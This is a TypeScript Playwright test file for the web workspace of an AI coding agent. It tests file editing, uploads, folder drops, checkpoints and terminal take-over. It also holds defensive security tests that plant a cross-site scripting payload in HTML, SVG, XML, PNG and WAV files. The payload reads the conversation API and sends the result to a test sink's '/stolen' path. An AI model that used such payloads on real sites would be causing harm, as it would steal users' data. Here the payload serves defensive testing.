import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Locator, Page } from 'playwright-core'
import { newGate } from '../packages/server/src/testing/scripted-model/gate.ts'
import { gate, tool } from '../packages/server/src/testing/scripted-model/script.ts'
import { temporaryFolder } from '../packages/server/src/testing/server-process.ts'
import { World } from '../packages/server/src/testing/world.ts'
import { fileText, live, text } from '../packages/web/src/text.ts'
import { bytes } from '../packages/web/src/ui/format-bytes.ts'
import { Surfer } from './browser.ts'
import { ConversationTab } from './conversation.ts'
import { payloads } from './payload-table.ts'
import { Sink } from './sink.ts'

const finish = tool('finish', { message: 'Done.' })
/** A script that reads what is not its own, and tells a server that nobody may ask. */
const owned = (sink: string): string =>
  `document.title='owned';fetch('/api/conversations').then(r=>r.text()).then(t=>fetch('${sink}/stolen?'+t));new Image().src='${sink}/image'`

/** Drops files and folders of this machine onto what is there, as a file manager does. */
async function drop(tab: Page, onto: Locator, files: readonly string[]): Promise<void> {
  const box = await onto.boundingBox()
  assert.ok(box)
  const browser = await tab.context().newCDPSession(tab)
  const at = { x: box.x + box.width / 2, y: box.y + Math.min(box.height / 2, 200) }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await browser.send('Input.dispatchDragEvent', {
      type,
      ...at,
      data: { items: [], files: [...files], dragOperationsMask: 1 },
    })
  await browser.detach()
}

/** Resolves once the field for messages holds this. */
async function written({ tab, field }: ConversationTab, value: string): Promise<void> {
  const node = await field.elementHandle()
  assert.ok(node)
  await tab.waitForFunction(([field, wanted]) => 'value' in field && field.value === wanted, [node, value] as const)
}

describe('the workspace in the page', () => {
  let surfer: Surfer
  before(async () => {
    surfer = await Surfer.start()
  })
  after(() => surfer[Symbol.asyncDispose]())

  test('[F06] a file is edited, saved and seen as a difference; others are sent up and fetched', async () => {
    await using world = await World.start({
      script: ({ turn }) => (turn === 0 ? tool('execute_bash', { command: 'echo one > notes.txt' }) : finish),
    })
    await using visit = await surfer.visit(world.server.url)
    const { tab } = visit
    const conversation = await ConversationTab.begin(tab, 'write a note')
    await conversation.state(text.now.finished).waitFor()
    const workspace = join(world.dataDir, 'workspaces', conversation.session)
    const files = await conversation.panel(text.panels.files)
    await files.getByRole('treeitem', { name: 'notes.txt' }).click()
    const editor = files.getByRole('textbox', { name: 'notes.txt' })
    await editor.getByText('one').waitFor()
    await editor.click()
    await tab.keyboard.press('Control+End')
    await tab.keyboard.type('two from the page')
    await files.getByText(fileText.files.unsaved).waitFor()
    await tab.keyboard.press('Control+s')
    await files.getByText(fileText.files.unsaved).waitFor({ state: 'detached' })
    assert.equal(readFileSync(join(workspace, 'notes.txt'), 'utf8'), 'one\ntwo from the page')
    const changes = await conversation.panel(text.panels.changes)
    await changes.getByRole('list', { name: fileText.changes.list }).getByText('notes.txt').click()
    await changes.getByText('two from the page').waitFor()

    const again = await conversation.panel(text.panels.files)
    await again.getByRole('button', { name: fileText.files.close }).click()
    const [chooser] = await Promise.all([
      tab.waitForEvent('filechooser'),
      again.getByRole('button', { name: fileText.files.upload }).click(),
    ])
    await chooser.setFiles([
      { name: 'sent up.txt', mimeType: 'text/plain', buffer: Buffer.from('from here') },
      { name: 'über.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(300_000, 7) },
    ])
    await again.getByText(fileText.transfers.uploaded(2)).waitFor()
    assert.equal(readFileSync(join(workspace, 'sent up.txt'), 'utf8'), 'from here')
    assert.ok(readFileSync(join(workspace, 'über.bin')).equals(Buffer.alloc(300_000, 7)))
    await again.getByRole('treeitem', { name: 'sent up.txt' }).click()
    const [fetched] = await Promise.all([
      tab.waitForEvent('download'),
      again.getByRole('button', { name: fileText.files.download, exact: true }).first().click(),
    ])
    assert.equal(fetched.suggestedFilename(), 'sent up.txt')
    assert.equal(readFileSync(await fetched.path(), 'utf8'), 'from here')
    visit.assertQuiet()
  })

  test('[F06] a file that is dropped on a message goes into the workspace, and the message names it', async () => {
    await using world = await World.start({
      script: ({ lastUserText }) => tool('finish', { message: `Heard: ${lastUserText}` }),
    })
    await using own = await temporaryFolder()
    writeFileSync(join(own.path, 'orders.csv'), 'date,amount\n')
    await using visit = await surfer.visit(world.server.url)
    const conversation = await ConversationTab.begin(visit.tab, 'wait for orders')
    await conversation.state(text.now.finished).waitFor()
    const workspace = join(world.dataDir, 'workspaces', conversation.session)
    for (const [index, name] of ['orders.csv', 'orders 2.csv'].entries()) {
      await conversation.field.fill('sum up')
      await drop(visit.tab, conversation.field, [join(own.path, 'orders.csv')])
      await written(conversation, `sum up\n\`${name}\` `)
      assert.equal(readFileSync(join(workspace, name), 'utf8'), 'date,amount\n')
      await visit.tab.getByRole('button', { name: text.composer.send, exact: true }).click()
      await conversation.log.getByText('Heard: sum up').nth(index).waitFor()
    }
    visit.assertQuiet()
  })

  test('[P48] a dropped folder is sent up with all that is in it; where a name is taken already the page asks', async () => {
    await using world = await World.start({
      script: ({ turn }) => (turn === 0 ? tool('execute_bash', { command: 'echo theirs > notes.txt' }) : finish),
    })
    await using own = await temporaryFolder()
    const site = join(own.path, 'site')
    mkdirSync(join(site, 'pages', 'empty'), { recursive: true })
    writeFileSync(join(site, 'index.html'), '<h1>Home</h1>')
    for (let at = 0; at < 150; at++) writeFileSync(join(site, 'pages', `${at}.txt`), `page ${at}`)
    writeFileSync(join(own.path, 'notes.txt'), 'mine')
    await using visit = await surfer.visit(world.server.url)
    const conversation = await ConversationTab.begin(visit.tab, 'write a note')
    await conversation.state(text.now.finished).waitFor()
    const workspace = join(world.dataDir, 'workspaces', conversation.session)
    const files = await conversation.panel(text.panels.files)
    await files.getByRole('treeitem', { name: 'notes.txt' }).waitFor()

    await drop(visit.tab, files.getByRole('tree'), [site, join(own.path, 'notes.txt')])
    await files.getByText(fileText.transfers.uploaded(151)).waitFor()
    await files.getByText(fileText.transfers.emptyFolder).waitFor()
    assert.equal(readFileSync(join(workspace, 'site', 'pages', '149.txt'), 'utf8'), 'page 149')
    await files.getByRole('treeitem', { name: 'site', exact: true }).waitFor()
    assert.equal(readFileSync(join(workspace, 'notes.txt'), 'utf8'), 'theirs\n')
    await files.getByRole('button', { name: fileText.transfers.keepBoth }).click()
    await files.getByRole('treeitem', { name: 'notes 2.txt' }).waitFor()
    assert.equal(readFileSync(join(workspace, 'notes 2.txt'), 'utf8'), 'mine')
    await files.getByRole('button', { name: text.common.close, exact: true }).click()

    await drop(visit.tab, files.getByRole('treeitem', { name: 'site', exact: true }), [join(own.path, 'notes.txt')])
    await files.getByText(fileText.transfers.uploaded(1)).waitFor()
    assert.equal(readFileSync(join(workspace, 'site', 'notes.txt'), 'utf8'), 'mine')
    await drop(visit.tab, files.getByRole('treeitem', { name: 'notes.txt', exact: true }).first(), [
      join(own.path, 'notes.txt'),
    ])
    await files.getByText(fileText.transfers.exists).waitFor()
    await files.getByRole('button', { name: fileText.transfers.replace }).click()
    await files.getByText(fileText.transfers.uploaded(1)).waitFor()
    assert.equal(readFileSync(join(workspace, 'notes.txt'), 'utf8'), 'mine')
    visit.assertQuiet()
  })

  test('[R10] checkpoints are called after what followed them, and the start says that it is the oldest', async () => {
    await using world = await World.start({
      script: ({ turn }) =>
        [
          tool('execute_bash', { command: 'echo one > notes.txt' }),
          tool('str_replace_editor', { command: 'create', path: 'report.py', file_text: 'print(1)\n' }),
        ][turn] ?? finish,
    })
    await using visit = await surfer.visit(world.server.url)
    const conversation = await ConversationTab.begin(visit.tab, 'write a note')
    await conversation.state(text.now.finished).waitFor()
    const changes = await conversation.panel(text.panels.changes)
    await changes.getByRole('option', { name: 'Oldest, ' }).waitFor({ state: 'attached' })
    await changes.getByRole('button', { name: fileText.changes.checkpoints }).click()
    await changes.getByText('before the creation of report.py', { exact: true }).waitFor()
    await changes.getByText('before echo one > notes.txt', { exact: true }).waitFor()
    visit.assertQuiet()
  })

  test('[S17] the terminal of the agent is taken over and given back; what it prints can do nothing to the page', async () => {
    const held = newGate()
    await using world = await World.start({
      script: ({ turn }) => (turn === 0 ? tool('execute_bash', { command: 'cat evil.txt' }) : gate(held, finish)),
    })
    await using sink = await Sink.start()
    await using visit = await surfer.visit(world.server.url)
    const { tab } = visit
    await visit.context.grantPermissions(['clipboard-read', 'clipboard-write'])
    const conversation = await ConversationTab.begin(tab, 'print it')
    await held.reached
    const workspace = join(world.dataDir, 'workspaces', conversation.session)
    writeFileSync(join(workspace, 'evil.txt'), payloads(sink.url).join('\r\n'))
    const title = await tab.title()
    const terminal = await conversation.panel(text.panels.terminal)
    await terminal.getByRole('button', { name: live.terminal.takeOver }).click()
    await terminal.getByText(live.terminal.holder.you).waitFor()
    await terminal.getByRole('textbox').focus()
    await tab.keyboard.type('cat evil.txt; touch typed-by-hand')
    await tab.keyboard.press('Enter')
    while (!existsSync(join(workspace, 'typed-by-hand'))) await new Promise(setImmediate)
    await tab.keyboard.type('read -r -t 1 -n 1 answer; echo "<$answer>" > answer.txt; touch asked')
    await tab.keyboard.press('Enter')
    while (!existsSync(join(workspace, 'asked'))) await new Promise(setImmediate)
    assert.equal(readFileSync(join(workspace, 'answer.txt'), 'utf8'), '<>\n', 'the terminal has answered nothing')
    assert.equal(await tab.title(), title)
    assert.doesNotMatch(String(await tab.evaluate('navigator.clipboard.readText()')), /stolen/)
    await terminal.getByRole('button', { name: live.terminal.giveBack }).click()
    await terminal.getByText(live.terminal.holder.agent).waitFor()
    held.open()
    await conversation.state(text.now.finished).waitFor()
    assert.deepEqual(sink.visitors, [])
    visit.assertQuiet()
  })

  test('[S16] names of files in the tree and among the changes', async () => {
    await using sink = await Sink.start()
    const names = payloads(sink.url).map((payload, at) =>
      `m-${at}-${payload.replaceAll(/[/\u0000]/g, '∕')}`.slice(0, 80),
    )
    const script = `import json\nfor name in json.loads(open('names.json').read()): open(name, 'w').write(name)`
    const held = newGate()
    await using world = await World.start({
      script: ({ turn }) =>
        turn === 0
          ? tool('execute_bash', { command: 'true' })
          : turn === 1
            ? gate(held, tool('execute_bash', { command: `python3 -c "${script}"` }))
            : finish,
    })
    await using visit = await surfer.visit(world.server.url, { viewport: { width: 1280, height: 8_000 } })
    const conversation = await ConversationTab.begin(visit.tab, 'make files')
    await held.reached
    const workspace = join(world.dataDir, 'workspaces', conversation.session)
    writeFileSync(join(workspace, 'names.json'), JSON.stringify(names))
    held.open()
    await conversation.state(text.now.finished).waitFor()
    const files = await conversation.panel(text.panels.files)
    await files.getByRole('treeitem', { name: 'm-227-' }).waitFor()
    const changes = await conversation.panel(text.panels.changes)
    await changes.getByRole('list', { name: fileText.changes.list }).getByText('m-100-').first().waitFor()
    assert.deepEqual(sink.visitors, [])
    visit.assertQuiet()
  })

  test('[S15] what an agent has made does not run where the page is, however it is opened', async () => {
    await using sink = await Sink.start()
    const code = owned(sink.url)
    const made: Readonly<Record<string, string>> = {
      'x.html': `<script>${code}</script>`,
      'x.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script></svg>`,
      'x.xml': `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${code}</h:script></x>`,
      'x.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script></html>`,
      'x.png': `<script>${code}</script>`,
      'x.unknown': `<!doctype html><script>${code}</script>`,
    }
    await using world = await World.start({
      script: ({ turn }) => (turn === 0 ? tool('execute_bash', { command: 'true' }) : finish),
    })
    await using visit = await surfer.visit(world.server.url)
    const conversation = await ConversationTab.begin(visit.tab, 'make pages')
    await conversation.state(text.now.finished).waitFor()
    const workspace = join(world.dataDir, 'workspaces', conversation.session)
    for (const [name, content] of Object.entries(made)) writeFileSync(join(workspace, name), content)
    for (const name of Object.keys(made)) {
      const opened = await visit.context.newPage()
      const url = `${world.server.url}/api/conversations/${conversation.session}/files/content?path=${name}`
      const [download] = await Promise.all([
        opened.waitForEvent('download', { timeout: 2_000 }).catch(() => undefined), // it is only looked at
        opened.goto(url).catch(() => null), // it becomes a download
      ])
      if (download === undefined) assert.notEqual(await opened.title(), 'owned', name)
      await opened.close()
    }
    const files = await conversation.panel(text.panels.files)
    await files.getByRole('treeitem', { name: 'x.svg' }).click()
    await files.getByRole('button', { name: fileText.files.asPicture }).click()
    await files.getByRole('img', { name: fileText.files.picture('x.svg') }).waitFor()
    await files.getByRole('button', { name: fileText.files.close }).click()
    writeFileSync(join(workspace, 'x.wav'), `RIFF\0\0\0\0WAVE<script>${code}</script>`)
    await files.getByRole('treeitem', { name: 'x.wav' }).click()
    await files.getByText(fileText.files.mediaFailed).waitFor()
    await files.getByRole('button', { name: fileText.files.close }).click()
    writeFileSync(join(workspace, 'report.pdf'), '%PDF-1.7\n')
    await files.getByRole('treeitem', { name: 'report.pdf' }).click()
    await files.getByText(fileText.files.kinds.pdf(bytes(9))).waitFor()
    await files.getByRole('button', { name: fileText.files.close }).click()
    for (const name of ['x.html', 'x.svg', 'x.png']) {
      await files.getByRole('treeitem', { name }).click()
      await files.getByRole('region', { name, exact: true }).waitFor()
      await files.getByRole('button', { name: fileText.files.close }).click()
    }
    assert.equal(await visit.tab.title(), text.app.name)
    assert.deepEqual(sink.visitors, [])
  })
})
